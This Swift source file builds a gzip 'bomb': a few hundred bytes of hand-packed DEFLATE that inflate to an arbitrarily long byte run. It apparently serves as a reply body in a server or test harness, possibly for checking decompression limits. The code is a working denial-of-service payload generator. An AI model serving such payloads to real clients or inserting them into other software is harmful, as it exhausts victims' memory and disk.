/// A small gzip file (RFC 1952) that unpacks to a long run of one byte between two texts.
///
/// Its DEFLATE (RFC 1951) is a stored block, one block with the fixed code, and a stored block. In
/// the middle one each match of 258 bytes at distance 1 takes 13 bits, so that eight matches are
/// 13 bytes that repeat, whatever the run's length.
struct GzipBomb {
  /// Bytes that eight matches make.
  private static let groupLength = 8 * 258

  let body: Reply.Body

  /// The run is rounded to `1 + 2064 n` bytes.
  init(before: [UInt8], byte: UInt8, count: Int, after: [UInt8]) {
    let groups = max(count / Self.groupLength, 3)
    let run = 1 + groups * Self.groupLength
    var checksum = CRC32()
    checksum.add(before)
    checksum.add(byte, times: run)
    checksum.add(after)
    let size = UInt32(truncatingIfNeeded: before.count + run + after.count)
    let middle = Self.fixedBlock(byte, groups: 3)
    // Behind its first two bytes the block repeats itself every 13.
    body = .repeated(
      head: [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3, 0] + Self.stored(before) + middle.prefix(2),
      unit: Array(middle[2..<15]),
      times: groups - 3,
      tail: Array(middle[2...]) + Self.stored(after)
        + Self.littleEndian(checksum.value) + Self.littleEndian(size)
    )
  }

  private static func littleEndian(_ word: UInt32) -> [UInt8] {
    (0..<4).map { UInt8(truncatingIfNeeded: word >> (8 * $0)) }
  }

  /// A stored block behind its three bits of header.
  private static func stored(_ bytes: [UInt8]) -> [UInt8] {
    precondition(bytes.count < 65_536, "BUG: a stored block holds at most 65,535 bytes")
    let size = UInt16(bytes.count)
    return [size, ~size].flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] } + bytes
  }

  /// The byte and its matches, and the header of a last, stored block.
  private static func fixedBlock(_ byte: UInt8, groups: Int) -> [UInt8] {
    var bits = BitWriter()
    // Not the last block; fixed code.
    bits.add(0b010, count: 3)
    precondition(byte < 144, "BUG: literals from 144 on have nine bits")
    bits.addCode(UInt16(byte) + 0x30, count: 8)
    for _ in 0..<groups * 8 {
      // Length 258 is symbol 285, distance 1 is symbol 0.
      bits.addCode(0b1100_0101, count: 8)
      bits.addCode(0, count: 5)
    }
    // End of block.
    bits.addCode(0, count: 7)
    bits.add(0b001, count: 3)
    return bits.bytes
  }
}

/// Packs bits from the lowest up, as DEFLATE has them.
private struct BitWriter {
  private(set) var bytes: [UInt8] = []
  private var used = 8

  mutating func add(_ value: UInt16, count: Int) {
    for index in 0..<count {
      if used == 8 {
        bytes.append(0)
        used = 0
      }
      if value >> index & 1 == 1 { bytes[bytes.count - 1] |= 1 << used }
      used += 1
    }
  }

  /// Adds a Huffman code, which goes from its highest bit down.
  mutating func addCode(_ code: UInt16, count: Int) {
    for index in stride(from: count - 1, through: 0, by: -1) { add(code >> index & 1, count: 1) }
  }
}
